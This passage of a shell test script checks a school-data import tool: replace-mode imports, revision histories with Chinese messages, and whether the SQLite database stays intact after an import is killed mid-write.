has "missing: --replace said" "$tmp/out" "--replace"
run "missing (en)" 0 --lang en import "$R" "$tmp/minus.csv"
has "missing en: kept" "$tmp/out" "note: 1 stored school-year(s) of the county-years these files cover are not in them"
run "missing: still evaluated" 0 eval "$R" --county 369901 --year 2024 --format json
jqeq "missing: kept" '[.counties[0].schools[] | select(.school_code=="2136990102")] | length' 1
last=$("$J" history "$R" --revisions --format json | jq '.[-1].revision')
run "replace" 0 import "$R" "$tmp/minus.csv" --replace --why "以更正后的文件为准"
has "replace: one revision" "$tmp/out" "修订 $((last + 1)):311 行"
has "replace: deleted" "$tmp/out" "1 个学校年度已删除"
run "replace: revisions" 0 history "$R" --revisions --format json
jqeq "replace: one new revision" '[.[] | select(.revision > '"$last"')] | length' 1
run "replace: gone from eval" 0 eval "$R" --county 369901 --year 2024 --format json
jqeq "replace: not evaluated" '[.counties[0].schools[] | select(.school_code=="2136990102")] | length' 0
run "replace: history" 0 history "$R" --school 2136990102 --format json
jqeq "replace: the delete" '.[-1] | "\(.revision) \(.field) \(.old)→\(.new) \(.kind) \(.why)"' "$((last + 1)) * 江城区第一小学→null import 以更正后的文件为准"

# A process killed in the middle of a big import leaves the database as
# it was.  200,000 rows: the sample's 312 schools × 641 copies with new
# codes (same counties, so every row is valid).
awk -F, 'FNR == 1 { print; next }
         { rest = substr($0, length($1) + 1); tail = substr($1, 5)
           for (k = 1; k <= 641; k++) printf "%04d%s%s\n", k, tail, rest }' \
	"$S/schools-2024.csv" >"$tmp/big.csv"
rows=$(($(wc -l <"$tmp/big.csv") - 1))
"$J" eval "$DB" --format json >"$tmp/pre.json"
sqlite3 "$DB" .dump >"$tmp/pre.sql"
# The optimised build is used when given (JUNHENG_FAST): the point is the
# database's atomicity, and a sanitised build would take minutes here.
"${JUNHENG_FAST:-$J}" import "$DB" "$tmp/big.csv" >/dev/null 2>&1 &
pid=$!
killed=0
for i in $(seq 1 6000); do
	# The WAL growing means the commit is being written: kill it there.
	if [ -f "$DB-wal" ] && [ "$(stat -c %s "$DB-wal")" -gt 1000000 ]; then
		kill -9 "$pid" 2>/dev/null && killed=1
		break
	fi
	kill -0 "$pid" 2>/dev/null || break
	sleep 0.01
done
wait "$pid" 2>/dev/null
if [ "$killed" = 1 ]; then ok "killed the import of $rows rows mid-write"; else no "the import ended before it could be killed"; fi
run "after kill: eval" 0 eval "$DB" --format json
same "after kill: same evaluation" "$tmp/out" "$tmp/pre.json"
sqlite3 "$DB" .dump >"$tmp/post.sql"
same "after kill: same database content" "$tmp/pre.sql" "$tmp/post.sql"
if [ "$(sqlite3 "$DB" 'PRAGMA integrity_check')" = ok ]; then ok "after kill: integrity ok"; else no "integrity check failed"; fi
run "after kill: import works" 0 import "$DB" "$tmp/changed.csv"

summary
